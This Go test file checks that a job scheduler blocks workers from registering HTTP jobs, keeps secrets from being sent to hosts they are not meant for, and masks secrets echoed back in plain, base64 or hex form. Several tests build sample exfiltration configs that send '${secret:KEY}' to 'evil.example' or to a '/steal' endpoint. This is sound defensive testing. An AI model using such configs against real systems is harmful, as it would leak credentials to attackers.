package httpjob_test

import (
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/carillon-scheduler/carillon/internal/kernel"
	"github.com/carillon-scheduler/carillon/internal/tests"
	"github.com/carillon-scheduler/carillon/jobs"
	"github.com/carillon-scheduler/carillon/metastore"
	"github.com/carillon-scheduler/carillon/ops"
)

// post sends JSON to the API and returns the status and the body of the response.
func (p *site) post(path string, body any) (int, string) {
	p.t.Helper()
	raw, err := json.Marshal(body)
	if err != nil {
		p.t.Fatal(err)
	}
	answer, err := http.Post(p.door.URL+"/api/v1"+path, "application/json", strings.NewReader(string(raw)))
	if err != nil {
		p.t.Fatal(err)
	}
	defer answer.Body.Close()
	text, err := io.ReadAll(answer.Body)
	if err != nil {
		p.t.Fatal(err)
	}
	return answer.StatusCode, string(text)
}

// A worker registers jobs without review. If a registration could hold requests, any worker's token would have the
// server send its secrets wherever the worker likes.
func TestWorkersRegisterNoHTTPJobs(t *testing.T) {
	p := newSite(t, "", func(int, seen) (int, string) { return 200, `{}` })
	p.until("the scheduler is ready", func() bool { return p.s.Ready(t.Context()) == nil })
	steal := map[string]any{"request": []any{map[string]any{"url": p.far.URL + "/steal", "headers": map[string]string{"X-Stolen": "${secret:KEY}"}}}}
	status, text := p.post("/worker/register", map[string]any{"name": "w", "start": "a", "app": "http", "slots": 1,
		"jobs": []any{map[string]any{"key": "innocent", "kind": "triggered", "settings": map[string]any{"http": steal}}}})
	if status != http.StatusUnprocessableEntity || !strings.Contains(text, "http") || !strings.Contains(text, "innocent") {
		t.Errorf("the registration is answered with %d %s", status, text)
	}
	if _, err := p.s.Ops().Trigger(t.Context(), ops.Who{Actor: "person:ann", Role: ops.Admin}, kernel.Create{Key: "innocent"}); err == nil {
		p.until("the request is made", func() bool { return len(p.got()) > 0 })
		t.Errorf("the server sent %v", p.got()[0].header["X-Stolen"])
	}
}

// An admin's or an operator's job may name a secret, and may not send it to a host that the secret is not for.
func TestSecretsStayWithTheirHosts(t *testing.T) {
	p := newSite(t, "", func(int, seen) (int, string) { return 200, `{}` })
	p.until("the scheduler is ready", func() bool { return p.s.Ready(t.Context()) == nil })
	for what, call := range map[string]string{
		"request":      `"request":[{"url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}]`,
		"check":        `"request":[{"url":"http://evil.example/"}],"async":true,"checkUrl":"http://evil.example/${secret:KEY}"`,
		"notification": `"request":[{"url":"http://evil.example/"}],"notification":[{"url":"http://evil.example/?${secret:KEY}"}]`,
		"service":      `"request":[{"url":"service://unknown/"}]`,
	} {
		status, text := p.post("/jobs", map[string]any{"key": what, "kind": "triggered", "app": "http", "http": json.RawMessage("{" + call + "}")})
		if status != http.StatusUnprocessableEntity || !strings.Contains(text, `"body.http.`) || strings.Contains(text, "s3cret") {
			t.Errorf("a job whose %s would take the secret elsewhere: %d %s", what, status, text)
		}
	}
}

// A service may repeat a secret, in an answer, a failure or a report, in any encoding: it is always masked.
func TestRepeatedSecretsAreMasked(t *testing.T) {
	tests.Long(t)
	const secret, inBase64, inHex = "s3cret", "czNjcmV0", "733363726574"
	repeats := func(s string) bool {
		return strings.Contains(s, secret) || strings.Contains(s, inBase64) || strings.Contains(strings.ToLower(s), inHex) || strings.Contains(s, "0ZW46czNjcmV0")
	}
	all := `{"plain":"s3cret","base64":"czNjcmV0","basic":"dG9rZW46czNjcmV0","hex":"733363726574"}`
	p := newSite(t, "", func(_ int, r seen) (int, string) {
		if r.header.Get("Authorization") != "Bearer s3cret" {
			return 400, "no secret"
		}
		return map[bool]int{true: 500, false: 200}[strings.HasPrefix(r.path, "/fails")], all
	})
	with := `"headers":{"Authorization":"Bearer ${secret:KEY}"}`
	p.make("answers", `{"request":[{"url":"FAR/answers",`+with+`}]}`, kernel.Settings{})
	p.make("fails", `{"request":[{"url":"FAR/fails",`+with+`}]}`, kernel.Settings{})
	p.make("reports", `{"async":true,"request":[{"url":"FAR/reports?callback=${schedulingFeedbackUrl}",`+with+`}]}`, kernel.Settings{})
	answers, fails := p.run("answers", ""), p.run("fails", "")
	id := p.begin("reports", "")
	to := p.callbacks(1)[0]
	p.mustCallBack(to, `{"progress":"1/2","message":"with 733363726574"}`, 200)
	p.until("the progress is seen", func() bool { return p.progress(id) == "1 2 with ***" })
	p.mustCallBack(to, `{"status":"succeed","data":`+all+`}`, 200)
	reports := p.end(id)
	if answers.State != jobs.Succeeded || fails.State != jobs.Terminated || reports.State != jobs.Succeeded {
		t.Errorf("%s, %s %s, %s", answers.State, fails.State, fails.Error, reports.State)
	}
	for _, run := range []*kernel.Run{answers, fails, reports} {
		if raw, err := json.Marshal(run); err != nil || repeats(string(raw)) || repeats(string(run.Result)) || repeats(run.Error) {
			t.Errorf("%s: %s %s %v", run.Key, run.Result, run.Error, err)
		}
		lines, err := p.s.Ops().Log(t.Context(), ops.Who{}, run.ID, metastore.LogPosition{}, 1000)
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range lines {
			if repeats(line.Text) {
				t.Errorf("%s logs %s", run.Key, line.Text)
			}
		}
	}
}
